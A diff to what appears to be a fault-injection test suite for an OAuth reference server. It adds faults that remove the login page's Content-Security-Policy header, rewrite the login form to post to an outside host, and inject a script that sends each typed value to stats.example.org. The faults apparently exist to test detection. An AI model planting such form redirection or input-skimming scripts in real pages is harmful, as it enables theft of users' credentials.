@@ -20,6 +20,12 @@ if TYPE_CHECKING:
 CONSENT = "GET /profile/apps/authorize"
 AUTHORIZE = "POST /api/oauth/authorize"
 REGISTER = "POST /api/oauth/apps"
+LOGIN = "GET /login"
+ELSEWHERE = 'method="post" action="https://login.example.org/"'
+TELLING = """
+document.addEventListener("change", (event) => fetch(
+  `https://stats.example.org/${encodeURIComponent(event.target.value)}`));
+"""
 SCRIPT = re.compile(r"<script[^>]*></script>")
 
 
@@ -164,3 +170,31 @@ def secret_is_shown_again(server: ReferenceServer) -> None:
             html,
         ),
     )
+
+
+def _let_pages_talk(server: ReferenceServer) -> None:
+    """Drop the header that keeps the login page to its own origin."""
+
+    def uncover(response: Response) -> None:
+        response.headers.pop("Content-Security-Policy", None)
+
+    server.after(LOGIN, uncover)
+
+
+@fault(violates="robustness/login-form-stays")
+def login_form_is_sent_elsewhere(server: ReferenceServer) -> None:
+    """The login form is sent to another host."""
+
+    def change(html: str) -> str:
+        html = SCRIPT.sub("", html).replace('method="post"', ELSEWHERE)
+        return html.replace("<input id=", '<input name="typed" id=')
+
+    _let_pages_talk(server)
+    server.page("login", change)
+
+
+@fault(violates="robustness/login-form-stays")
+def login_page_tells_another_host(server: ReferenceServer) -> None:
+    """A script of the login page tells another host what is typed."""
+    _let_pages_talk(server)
+    server.page("login", lambda html: f"{html}<script>{TELLING}</script>")
